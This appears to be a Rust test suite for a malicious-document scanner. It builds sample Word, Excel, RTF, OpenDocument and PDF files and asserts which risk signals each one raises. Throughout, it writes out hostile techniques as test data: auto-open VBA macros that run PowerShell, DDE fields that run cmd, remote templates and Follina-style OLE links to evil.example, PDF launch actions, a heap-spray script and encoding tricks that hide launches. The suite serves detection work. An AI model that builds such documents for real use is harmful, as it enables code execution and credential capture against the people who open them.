//! Documents made here, innocent and harmful: what is seen of each.

use std::io::{Cursor, Write};
use std::time::Duration;

use super::*;
use crate::limits::{Budget, Limits};
use crate::mime;

fn seen(bytes: &[u8]) -> DocumentReading {
    let part = mime::alone(bytes, "a.doc", "application/octet-stream").message.parts.remove(0);
    let limits = Limits::default();
    let mut allowance = Allowance::new(&limits, Budget::starting_now(Duration::from_secs(10)));
    if bytes.starts_with(b"%PDF") {
        look_at_pdf(bytes, &part, &mut allowance)
    } else {
        look(bytes, &part, &mut allowance)
    }
}

fn check(name: &str, bytes: &[u8], expected: &[Check]) -> DocumentReading {
    let seen = seen(bytes);
    let mut checks: Vec<Check> = seen.signals.iter().map(|signal| signal.check).collect();
    checks.dedup();
    assert_eq!(checks, expected, "{name}: {:?}", seen.signals);
    seen
}

/// A container without compression: flag bytes of zero, each before eight bytes.
fn uncompressed(source: &str) -> Vec<u8> {
    let mut chunk = Vec::new();
    for eight in source.as_bytes().chunks(8) {
        chunk.push(0);
        chunk.extend(eight);
    }
    let header = 0xb000 | u16::try_from(chunk.len() - 1).expect("a short module");
    [&[1][..], &header.to_le_bytes(), &chunk].concat()
}

fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("memory");
    for (path, bytes) in streams {
        if let Some((folder, _)) = path.rsplit_once('/') {
            file.create_storage_all(folder).expect("storage");
        }
        file.create_stream(path).expect("stream").write_all(bytes).expect("write");
    }
    file.into_inner().into_inner()
}

fn ooxml(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).expect("start");
        writer.write_all(bytes).expect("write");
    }
    writer.finish().expect("finish").into_inner()
}

fn module(body: &str) -> Vec<u8> {
    uncompressed(&format!("Attribute VB_Name = \"ThisDocument\"\r\n{body}\r\n"))
}

const DROPPER: &str = "Sub Document_Open()\r\nCreateObject(\"WScript.Shell\").Run \"powershell -enc x\"\r\nEnd Sub";
const HELPER: &str = "Sub Workbook_Open()\r\nSheets(1).Activate ' Shell is not used\r\nEnd Sub";

#[test]
fn macros_are_told_apart_by_what_they_do() {
    use Check as C;
    let old = |body: &str| compound(&[("/Macros/VBA/ThisDocument", &module(body))]);
    check("a dropper", &old(DROPPER), &[C::Macro, C::MacroActs]);
    check("a helper that starts by itself", &old(HELPER), &[C::Macro, C::MacroAutomatic]);
    check("a function", &old("Function Twice(x)\r\nTwice = 2 * x\r\nEnd Function"), &[C::Macro]);
    check("no macros", &compound(&[("/WordDocument", b"nothing")]), &[]);
    let project = compound(&[("/VBA/ThisWorkbook", &module(DROPPER))]);
    check("a new document", &ooxml(&[("xl/vbaProject.bin", &project)]), &[C::Macro, C::MacroActs]);
    check(
        "Excel 4.0",
        &ooxml(&[
            ("xl/macrosheets/sheet1.xml", b"<a/>"),
            ("xl/workbook.xml", b"<x><definedName name=\"_xlnm.Auto_Open\">1</definedName></x>"),
        ]),
        &[C::MacroActs],
    );
}

#[test]
fn what_a_document_loads_when_it_is_opened() {
    use Check as C;
    let relation = |kind: &str, target: &str| {
        let rels = format!(
            "<Relationships><Relationship Id=\"1\" \
                Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
                Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
        );
        ooxml(&[("word/_rels/settings.xml.rels", rels.as_bytes())])
    };
    check(
        "a template of the own server",
        &relation("attachedTemplate", "file:///\\\\server\\templates\\letter.dotx"),
        &[C::DocumentLink],
    );
    check(
        "a template of a site",
        &relation("attachedTemplate", "https://intranet.example.com/letter.dotx"),
        &[C::DocumentLink],
    );
    check("a template of an address", &relation("attachedTemplate", "http://192.0.2.7/a.dotm"), &[C::DocumentRemote]);
    check(
        "a template that is none",
        &relation("attachedTemplate", "https://example.invalid/x?id=7"),
        &[C::DocumentRemote],
    );
    check(
        "an object through a handler",
        &relation("oleObject", "mhtml:http://example.invalid/a!x-usc:http://example.invalid/a"),
        &[C::DocumentRemote],
    );
    check(
        "an object that ends so (Follina)",
        &relation("oleObject", "https://example.invalid/a.html!"),
        &[C::DocumentRemote],
    );
    let linked = check("a link", &relation("hyperlink", "https://www.example.com/"), &[]);
    assert_eq!(linked.links, ["https://www.example.com/"]);
    check("a picture from elsewhere", &relation("image", "https://www.example.com/a.png"), &[]);
}

#[test]
fn what_a_document_loads_from_a_share() {
    use Check as C;
    let relation = |kind: &str, target: &str| {
        let rels = format!(
            "<Relationships><Relationship Type=\"http://x/{kind}\" Target=\"{target}\" \
                TargetMode=\"External\"/></Relationships>"
        );
        ooxml(&[("word/_rels/document.xml.rels", rels.as_bytes())])
    };
    for (kind, target) in [
        ("attachedTemplate", "file://203.0.113.9/share/a.dotm"),
        ("attachedTemplate", "\\\\files.evil.example\\share\\a.dotx"),
        ("image", "file:///\\\\203.0.113.9\\share\\a.png"),
        ("image", "\\\\evil.example@80\\a.png"),
        ("subDocument", "file://203.0.113.9/a.docx"),
        ("externalLinkPath", "file:///\\\\203.0.113.9\\a.xlsx"),
        ("oleObject", "https:/\\evil.example/a.docx"),
    ] {
        check(&format!("{kind} {target}"), &relation(kind, target), &[C::DocumentRemote]);
    }
    for (kind, target, expected) in [
        ("attachedTemplate", "\\\\server\\templates\\letter.dotx", &[C::DocumentLink][..]),
        ("attachedTemplate", "file:///\\\\10.1.2.3\\templates\\letter.dotx", &[C::DocumentLink]),
        ("attachedTemplate", "file:///C:/Users/anna/letter.dotx", &[C::DocumentLink]),
        ("image", "https://www.example.com/logo.png", &[]),
        ("image", "file:///\\\\server\\share\\logo.png", &[]),
        ("image", "file:///C:/Users/anna/logo.png", &[]),
        ("externalLinkPath", "file:///\\\\files.example.com\\figures\\2026.xlsx", &[]),
    ] {
        check(&format!("{kind} {target}"), &relation(kind, target), expected);
    }
    let field =
        |text: &str| ooxml(&[("word/document.xml", format!("<w><w:fldSimple w:instr='{text}'/></w>").as_bytes())]);
    check("a picture", &field("INCLUDEPICTURE \"\\\\\\\\203.0.113.9\\\\a.png\" \\d"), &[C::DocumentRemote]);
    check("a picture of the web", &field("INCLUDEPICTURE \"https://www.example.com/a.png\" \\d"), &[]);
    check("a picture of a server", &field("INCLUDEPICTURE \"\\\\\\\\server\\\\a.png\""), &[]);
    let rtf = "{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE \"file://203.0.113.9/a.png\"}}}";
    check("a picture in RTF", rtf.as_bytes(), &[C::DocumentRemote]);
    let rtf = "{\\rt{\\*\\template \\\\\\\\203.0.113.9\\\\a.dotm}}";
    check("a template in RTF at a share", rtf.as_bytes(), &[C::DocumentRemote]);
    let hidden: String = "http://evil.example/a".chars().map(|c| format!("\\u{}?", u32::from(c))).collect();
    check("a template in numbers", format!("{{\\rtf1{{\\*\\template {hidden}}}}}").as_bytes(), &[C::DocumentRemote]);
    let rtf = "{\\rtf1{\\*\\template C:\\\\Templates\\\\letter.dot}}";
    check("a template of this computer", rtf.as_bytes(), &[]);
}

#[test]
fn workbooks_that_ask_another_program_or_start_macros() {
    use Check as C;
    let linked = |service: &str, topic: &str| {
        let part = format!("<externalLink><ddeLink ddeService=\"{service}\" ddeTopic=\"{topic}\"/></externalLink>");
        ooxml(&[("xl/externalLinks/externalLink1.xml", part.as_bytes())])
    };
    check("a command", &linked("cmd", "/c calc"), &[C::Dde]);
    check("a shell", &linked("POWERSHELL", "-enc x"), &[C::Dde]);
    check("Excel with a path", &linked("MSEXCEL", "\\..\\..\\Windows\\System32\\cmd.exe /c calc"), &[C::Dde]);
    check("prices", &linked("BLP", "M"), &[]);
    let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let name = [&[39, 20, 0, 0][..], &wide("Auto_Open")].concat();
    check("binary", &ooxml(&[("xl/macrosheets/sheet1.bin", b"x"), ("xl/workbook.bin", &name)]), &[C::MacroActs]);
    check("binary without a start", &ooxml(&[("xl/macrosheets/sheet1.bin", b"x")]), &[C::MacroAutomatic]);
    check("binary without macros", &ooxml(&[("xl/workbook.bin", b"x")]), &[]);
}

#[test]
fn links_of_documents_wherever_they_stand() {
    use Check as C;
    let field = "<w:instrText>HYPERLINK \"https://evil.example/\" \\o \"x\"</w:instrText>";
    let seen = check("a field", &ooxml(&[("word/document.xml", format!("<w>{field}</w>").as_bytes())]), &[]);
    assert_eq!(seen.links, ["https://evil.example/"]);
    let seen = check("a place", b"{\\rtf1{\\field{\\*\\fldinst HYPERLINK \\\\l \"top\"}}}", &[]);
    assert_eq!(seen.links, [""; 0]);
    let word = [&[0; 32][..], b"\x13HYPERLINK \"https://evil.example/\"\x14x\x15"].concat();
    assert_eq!(check("Word of old", &compound(&[("/WordDocument", &word)]), &[]).links, ["https://evil.example/"]);
    let text = |inside: &str| ooxml(&[("content.xml", format!("<d>{inside}</d>").as_bytes())]);
    let seen = check("OpenDocument", &text("<text:a xlink:href='https://evil.example/'>x</text:a>"), &[]);
    assert_eq!(seen.links, ["https://evil.example/"]);
    check("a picture at a share", &text("<draw:image xlink:href='file://203.0.113.9/a.png'/>"), &[C::DocumentRemote]);
    check("a picture of its own", &text("<draw:image xlink:href='Pictures/a.png'/>"), &[]);
    check("a question", &text("<c table:formula='of:=DDE(\"cmd\";\"/C calc\";\"a\")'/>"), &[C::Dde]);
    check("a sum", &text("<c table:formula='of:=SUM([.A1:.A2])'/>"), &[]);
    let open = pdf_with("/AA<</O<</S/GoToE/F(\\\\\\\\203.0.113.9\\\\a)/D[0/Fit]>>>>");
    check("a PDF that opens a file at a share", &open, &[C::DocumentRemote]);
    check("a PDF beside another", &pdf_with("/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>"), &[]);
}

fn pdf_with(entries: &str) -> Vec<u8> {
    format!("%PDF-1.7\n1 0 obj<<{entries}>>endobj\n%%EOF").into_bytes()
}

#[test]
fn what_an_object_is_linked_with() {
    use Check as C;
    let wide = |text: &str| text.encode_utf16().chain([0]).flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
    let site = |target: &str| {
        let text = wide(target);
        let moniker = b"\xe0\xc9\xea\x79\xf9\xba\xce\x11\x8c\x82\x00\xaa\x00\x4b\xa9\x0b";
        compound(&[("/\u{1}Ole", &[&[1, 0, 0, 2][..], moniker, &(text.len() as u32).to_le_bytes(), &text].concat())])
    };
    let file = |target: &str| {
        let moniker = b"\x03\x03\0\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\0\0";
        let text = format!("{target}\0");
        let stream = [&[1, 0, 0, 2][..], moniker, &(text.len() as u32).to_le_bytes(), text.as_bytes()].concat();
        compound(&[("/\u{1}Ole", &stream)])
    };
    check("a site", &site("http://evil.example/a.hta"), &[C::DocumentRemote]);
    check("a table of SharePoint", &site("https://ours.sharepoint.com/figures.xlsx"), &[C::DocumentLink]);
    check("a share outside", &file("\\\\203.0.113.9\\a.xlsx"), &[C::DocumentRemote]);
    check("a file of this computer", &file("C:\\Users\\anna\\figures.xlsx"), &[]);
    let two = packaged("note.txt", b"MZ");
    let at = two.windows(11).position(|bytes| bytes == b"C:\\note.txt").expect("the path");
    let two = [&two[..at], b"C:\\note.exe", &two[at + 11..]].concat();
    let seen = check("two names", &compound(&[("/_1/\u{1}Ole10Native", &two)]), &[C::DocumentEmbeds]);
    assert_eq!(seen.members.iter().map(|one| one.name.as_str()).collect::<Vec<_>>(), ["note.txt", "note.exe"]);
}

#[test]
fn objects_of_rtf_that_are_hidden() {
    use Check as C;
    let head = "01050000020000000b0000004571756174696f6e2e330000000000000000000100000041";
    let (one, two) = head.split_at(20);
    for (name, data) in [
        ("control words", format!("{one}\\foo12 {two}")),
        ("a group that may be skipped", format!("{one}{{\\*\\foo 4142}}{two}")),
        ("characters", format!("{one}\\'41{two}")),
        ("blanks", format!("{one}\r\n\t {two}")),
        ("a group", format!("{one}{{}}{two}")),
    ] {
        let rtf = format!("{{\\rt{{\\object\\objocx{{\\*\\objdata {data}}}}}}}");
        check(name, rtf.as_bytes(), &[C::RtfExploit, C::DocumentEmbeds]);
    }
    let bytes = b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Equation.3\0\0\0\0\0\0\0\0\0\x01\0\0\0A";
    let raw = [b"{\\rtf1{\\*\\objdata \\bin37 ".as_slice(), bytes, b"}}"].concat();
    check("raw bytes", &raw, &[C::RtfExploit, C::DocumentEmbeds]);
    check("a class", b"{\\rtf1{\\object{\\*\\objclass Equation.3}}}", &[C::RtfExploit]);
    check("another class", b"{\\rtf1{\\object{\\*\\objclass Excel.Sheet.12}}}", &[]);
}

#[test]
fn fields_that_ask_another_program() {
    use Check as C;
    let document =
        |inside: &str| ooxml(&[("word/document.xml", format!("<w:document>{inside}</w:document>").as_bytes())]);
    check(
        "a whole field",
        &document("<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\" '/>"),
        &[C::Dde],
    );
    check(
        "a field in pieces",
        &document(
            "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE</w:instrText><w:instrText>AUTO \
                cmd</w:instrText><w:fldChar w:fldCharType='separate'/>",
        ),
        &[C::Dde],
    );
    check("a page number", &document("<w:fldSimple w:instr=' PAGE '/><w:instrText>TOC</w:instrText>"), &[]);
    check("a text about DDE", &document("<w:t>DDEAUTO is old</w:t>"), &[]);
    check("RTF", b"{\\rtf1{\\field{\\*\\fldinst { DDEAUTO cmd \"/c calc\"}}}}", &[C::Dde]);
}

fn packaged(name: &str, bytes: &[u8]) -> Vec<u8> {
    let path = format!("C:\\{name}\0");
    [
        &0_u32.to_le_bytes()[..],
        &[2, 0],
        name.as_bytes(),
        &[0],
        path.as_bytes(),
        &[0, 0, 3, 0],
        &(path.len() as u32).to_le_bytes(),
        path.as_bytes(),
        &(bytes.len() as u32).to_le_bytes(),
        bytes,
    ]
    .concat()
}

#[test]
fn what_is_embedded_comes_out() {
    use Check as C;
    let package = packaged("a.exe", b"MZ and more");
    let seen = check("a package", &compound(&[("/ObjectPool/_1/\u{1}Ole10Native", &package)]), &[C::DocumentEmbeds]);
    assert_eq!((seen.members[0].name.as_str(), seen.members[0].bytes.as_slice()), ("a.exe", &b"MZ and more"[..]));
    let seen = check("a file", &ooxml(&[("word/embeddings/data.xlsx", b"PK")]), &[C::DocumentEmbeds]);
    assert_eq!(seen.members[0].name, "data.xlsx");
    let seen = check("a picture", &ooxml(&[("word/media/image1.png", b"\x89PNG")]), &[]);
    assert_eq!(seen.members.len(), 1);
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let object = |class: &str, data: &[u8]| {
        let class = format!("{class}\0");
        let bytes = [
            &[1, 5, 0, 0, 2, 0, 0, 0][..],
            &(class.len() as u32).to_le_bytes(),
            class.as_bytes(),
            &[0; 8],
            &(data.len() as u32).to_le_bytes(),
            data,
        ]
        .concat();
        format!("{{\\rtf1{{\\object\\objemb{{\\*\\objdata {}\r\n}}}}}}", hex(&bytes))
    };
    let seen = check("a package in RTF", object("Package", &package[4..]).as_bytes(), &[C::DocumentEmbeds]);
    assert_eq!(seen.members[0].name, "a.exe");
    check("the equation editor", object("Equation.3", b"x").as_bytes(), &[C::RtfExploit, C::DocumentEmbeds]);
    check("a template in RTF", b"{\\rtf1{\\*\\template http://192.0.2.1/a}}", &[C::DocumentRemote]);
    check(
        "a saved mail",
        &compound(&[
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", b"MZ"),
            ("/__attach_version1.0_#00000000/__substg1.0_3707001F", b"a\0.\0e\0x\0e\0"),
        ]),
        &[],
    );
}

#[test]
fn encrypted_documents_are_told() {
    use Check as C;
    check("a new one", &compound(&[("/EncryptedPackage", b"x"), ("/EncryptionInfo", b"x")]), &[C::EncryptedDocument]);
    check("Excel", &compound(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), &[C::EncryptedDocument]);
    check("a PDF", b"%PDF-1.7\ntrailer<</Encrypt 5 0 R>>", &[C::EncryptedDocument]);
}

#[test]
fn what_a_pdf_does() {
    use Check as C;
    let pdf = |inside: &str| format!("%PDF-1.7\n{inside}\n%%EOF").into_bytes();
    check("nothing", &pdf("1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj"), &[]);
    check(
        "a form that counts",
        &pdf("1 0 obj<</AA<</C<</S/JavaScript/JS(AFSimple_Calculate\\(\"SUM\"\\))>>>>>>endobj"),
        &[C::PdfScript],
    );
    check("a launch", &pdf("1 0 obj<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>endobj"), &[C::PdfLaunch]);
    check("a hidden launch", &pdf("1 0 obj<</OpenAction<</S/L#61unch/F(a.exe)>>>>endobj"), &[C::PdfLaunch]);
    check("another document", &pdf("1 0 obj<</A<</S/Launch/F(other.pdf)>>>>endobj"), &[C::PdfScript]);
    check("a document of IT", &pdf("1 0 obj<</A<</S/Launch/F(cmdb.pdf)>>>>endobj"), &[C::PdfScript]);
    check("a bare name", &pdf("1 0 obj<</A<</S/Launch/F(cmd)/P(/c x)>>>>endobj"), &[C::PdfLaunch]);
    check(
        "an exploit",
        &pdf("1 0 obj<</OpenAction<</S/JavaScript/JS(var s = unescape\\(\"%u9090%u9090\"\\);)>>>>endobj"),
        &[C::PdfScript, C::PdfAutomatic, C::PdfExploit],
    );
    let linked = check(
        "links",
        &pdf("1 0 obj<</A<</S/URI/URI(https://www.example.com/a\\(b\\))>>>>endobj 2 0 \
                obj<</URI<68747470733a2f2f782e6578616d706c65>>>endobj"),
        &[],
    );
    assert_eq!(linked.links, ["https://www.example.com/a(b)", "https://x.example"]);
    let deflated = |bytes: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(bytes).expect("write");
        encoder.finish().expect("finish")
    };
    let objects = deflated(b"1 0 <</S/Launch/F(a.exe)>>");
    let hidden =
        [b"%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n".as_slice(), &objects, b"\nendstream endobj"]
            .concat();
    check("a launch in an object stream", &hidden, &[C::PdfLaunch]);
    for (filter, packed) in [
        ("/LZWDecode", super::pdf::packed_by_lzw(b"1 0 <</S/Launch/F(a.exe)>>")),
        ("[/ASCIIHexDecode/RunLengthDecode]", b"19 31203020 3C3C2F532F4C61756E63682F4628612E657865293E3E 80>".to_vec()),
        ("[/A85 /Fl]/DecodeParms[null<</Predictor 12/Columns 26>>]", deflated_rows(&deflated)),
    ] {
        let head = format!("%PDF-1.7\n1 0 obj<</Type/ObjStm/Filter{filter}>>stream\r\n");
        let hidden = [head.as_bytes(), &packed, b"\nendstream endobj"].concat();
        check(filter, &hidden, &[C::PdfLaunch]);
    }
    let file = [
        b"%PDF-1.7\n1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode>>stream\n".as_slice(),
        &deflated(b"MZ and more"),
        b"\nendstream",
    ]
    .concat();
    let seen = check("a file", &file, &[C::DocumentEmbeds]);
    assert_eq!(seen.members[0].bytes, b"MZ and more");
}

/// A launch as one row of PNG's second kind, deflated, in base 85.
fn deflated_rows(deflated: &dyn Fn(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let packed = deflated(b"\x021 0 <</S/Launch/F(a.exe)>>");
    let mut out = Vec::new();
    for four in packed.chunks(4) {
        let mut whole = [0; 4];
        whole[..four.len()].copy_from_slice(four);
        let number = u32::from_be_bytes(whole);
        let letters = (0..5).rev().map(|place| (number / 85_u32.pow(place) % 85) as u8 + b'!');
        out.extend(letters.take(four.len() + 1));
    }
    [out.as_slice(), b"~>"].concat()
}

#[test]
fn scripts_of_a_pdf() {
    use Check as C;
    let pdf = |inside: &str| format!("%PDF-1.7\n{inside}\n%%EOF").into_bytes();
    let opened = |script: &str| pdf(&format!("1 0 obj<</OpenAction<</S/JavaScript/JS({script})>>>>endobj"));
    for script in ["app.launchURL\\(\"https://x.example\"\\)", "this.submitForm\\('http://x'\\)", "eval\\(a\\)"] {
        check(script, &opened(script), &[C::PdfScript, C::PdfAutomatic]);
    }
    for script in ["this.print\\(true\\)", "AFNumber_Format\\(2,0\\)", "this.pageNum++"] {
        check(script, &opened(script), &[C::PdfScript]);
    }
    let far = pdf("1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/JavaScript/JS 3 0 R>>endobj 3 0 obj<</Length \
            3/Filter/ASCIIHexDecode>>stream\n6170702E6C61756E636855524C2861293B>\nendstream endobj");
    check("in a stream", &far, &[C::PdfScript, C::PdfAutomatic]);
    check(
        "a button",
        &pdf("1 0 obj<</Subtype/Widget/A<</S/JavaScript/JS(this.submitForm\\(\"http://x\"\\))>>>>endobj"),
        &[C::PdfScript],
    );
}

#[test]
fn files_of_a_pdf_have_their_names() {
    use Check as C;
    let pdf = |specification: &str| {
        format!(
            "%PDF-1.7\n2 0 obj{specification}endobj\n3 0 obj<</Length 10/Filter/ASCIIHexDecode>>stream\n\
                4142>\nendstream endobj\n%%EOF"
        )
        .into_bytes()
    };
    for (specification, expected) in [
        ("<</Type/Filespec/F(a.js)/UF(a.js)/EF<</F 3 0 R>>>>", &["a.js"][..]),
        ("<</F<612E6A73>/EF<</F 3 0 R>>>>", &["a.js"]),
        ("<</UF<FEFF0061002E006A0073>/EF<</UF 3 0 R>>>>", &["a.js"]),
        ("<</F(note.txt)/UF(a.js)/EF<</F 3 0 R>>>>", &["note.txt", "a.js"]),
        ("<</F(C:/a/note.txt)/E#46<</F 3 0 R>>>>", &["note.txt"]),
    ] {
        let seen = check(specification, &pdf(specification), &[C::DocumentEmbeds]);
        let mut names: Vec<&str> = seen.members.iter().map(|member| member.name.as_str()).collect();
        names.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(names, expected);
        assert!(seen.members.iter().all(|member| member.bytes == b"AB"), "{specification}");
    }
    let lost = check("lost", b"%PDF-1.7\n2 0 obj<</F(a.js)/EF<</F 9 0 R>>>>endobj", &[C::DocumentEmbeds]);
    assert_eq!((lost.members[0].name.as_str(), lost.members[0].bytes.len()), ("a.js", 0));
    let deep = pdf("<</F(b.zip)/EF<</F 3 0 R>>>>");
    let update = [deep.as_slice(), b"\n3 0 obj<</Filter/ASCII85Decode>>stream\n5l~>\nendstream endobj\n%%EOF"].concat();
    let seen = check("an update", &update, &[C::DocumentEmbeds]);
    assert_eq!(seen.members.iter().map(|member| member.name.as_str()).collect::<Vec<_>>(), ["b.zip", "b.zip"]);
}

#[test]
fn damage_is_never_bad_in_itself() {
    let whole = ooxml(&[("word/document.xml", b"<a/>")]);
    for bytes in [
        &whole[..30],
        b"PK\x03\x04".as_slice(),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1cut off",
        b"{\\rtf1{\\*\\objdata 0105",
        b"%PDF-1.7 (",
        b"%PDF-1.7 /URI (",
    ] {
        let seen = seen(bytes);
        assert!(
            seen.signals.iter().all(|signal| matches!(signal.check, Check::NotAnalysed | Check::DocumentEmbeds)),
            "{:?}",
            seen.signals
        );
    }
}

#[test]
fn what_people_read_in_documents() {
    let word = b"<w:document><w:p><w:r><w:t>Pay this</w:t></w:r></w:p></w:document>";
    let footer = b"<w:ftr><w:p><w:r><w:t>page one</w:t></w:r></w:p></w:ftr>";
    let document = ooxml(&[("word/document.xml", word), ("word/footer1.xml", footer), ("word/styles.xml", word)]);
    assert_eq!(seen(&document).text, "Pay this\npage one\n");
    let slides = ooxml(&[("ppt/slides/slide1.xml", b"<p:sld><a:p><a:r><a:t>a slide</a:t></a:r></a:p></p:sld>")]);
    assert_eq!(seen(&slides).text, "a slide\n");
    let sheets = ooxml(&[
        ("xl/worksheets/sheet1.xml", b"<c t='inlineStr'><is><t>in place</t></is></c>"),
        ("xl/sharedStrings.xml", b"<sst><si><t>shared</t></si></sst>"),
    ]);
    assert_eq!(seen(&sheets).text, "in place\nshared\n");
    let open = ooxml(&[("content.xml", b"<office:text><text:p>open</text:p></office:text>")]);
    assert_eq!(seen(&open).text, "open\n");
    assert_eq!(seen(b"{\\rtf1\\ansi{\\fonttbl Arial;}rich \\b text}").text, "rich text");
}

#[test]
fn a_large_table_is_read_for_its_text_as_far_as_there_is_room() {
    let row = "<row><c t='inlineStr'><is><t></t></is></c></row>".repeat(1 << 20);
    let said = seen(&ooxml(&[("xl/worksheets/sheet1.xml", row.as_bytes())]));
    assert!(said.signals.is_empty() && said.text.is_empty(), "{:?}", said.signals);
}
